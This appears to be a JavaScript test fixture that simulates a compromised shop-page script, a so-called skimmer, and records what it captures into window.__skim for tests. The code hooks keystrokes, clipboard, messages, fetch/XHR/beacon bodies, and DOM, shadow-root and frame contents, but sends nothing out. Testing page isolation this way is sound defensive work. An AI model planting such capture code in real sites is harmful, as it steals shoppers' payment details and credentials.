// A "skimmer" as a compromised script on the shop's page would run it: it
// records every input, keyboard and clipboard event, every `message`, every
// request body (fetch, XMLHttpRequest, sendBeacon), and walks the DOM, open
// shadow roots and any frame it can reach, collecting every value and text.
// The tests read `window.__skim` (an array of strings).
(() => {
  const rec = (window.__skim = []);
  const add = (what, v) => { try { rec.push(what + ":" + (typeof v === "string" ? v : JSON.stringify(v))); } catch { rec.push(what + ":?"); } };
  const events = ["input", "change", "keydown", "keyup", "keypress", "beforeinput", "paste", "copy", "cut", "focusin", "focusout", "compositionend"];
  for (const t of events) {
    for (const target of [window, document]) {
      target.addEventListener(t, (e) => {
        const el = e.composedPath ? e.composedPath()[0] : e.target;
        add(t, { key: e.key, data: e.data, value: el && el.value, text: e.clipboardData && e.clipboardData.getData("text") });
      }, true);
    }
  }
  window.addEventListener("message", (e) => add("message", { origin: e.origin, data: e.data }), true);
  const origFetch = window.fetch;
  window.fetch = function (input, init) { add("fetch", { url: String(input && input.url || input), body: init && init.body }); return origFetch.apply(this, arguments); };
  const open = XMLHttpRequest.prototype.open, send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (m, u) { add("xhr-open", String(u)); return open.apply(this, arguments); };
  XMLHttpRequest.prototype.send = function (b) { add("xhr-send", b); return send.apply(this, arguments); };
  if (navigator.sendBeacon) {
    const beacon = navigator.sendBeacon.bind(navigator);
    navigator.sendBeacon = (u, b) => { add("beacon", { u, b }); return beacon(u, b); };
  }
  const walk = (root) => {
    for (const el of root.querySelectorAll("*")) {
      if ("value" in el && el.value) add("dom-value", el.value);
      if (el.shadowRoot) walk(el.shadowRoot);
      if (el.tagName === "IFRAME") {
        try { const d = el.contentDocument || el.contentWindow.document; if (d) walk(d); } catch { add("frame-blocked", el.src.split("#")[0]); }
      }
    }
    if (root.body) add("dom-text", root.body.innerText);
    else add("dom-text", root.textContent);
  };
  window.__skimWalk = () => walk(document);
  setInterval(() => walk(document), 250);
})();
